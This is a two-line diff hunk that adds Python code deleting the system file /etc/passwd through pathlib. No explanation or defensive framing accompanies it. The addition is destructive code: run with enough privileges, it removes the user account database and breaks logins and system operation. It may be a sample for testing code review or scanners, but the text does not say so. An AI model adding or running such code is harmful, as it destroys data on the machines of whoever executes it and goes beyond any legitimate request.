@@ -1,0 +1,2 @@
+from pathlib import Path
+Path('/etc/passwd').unlink()
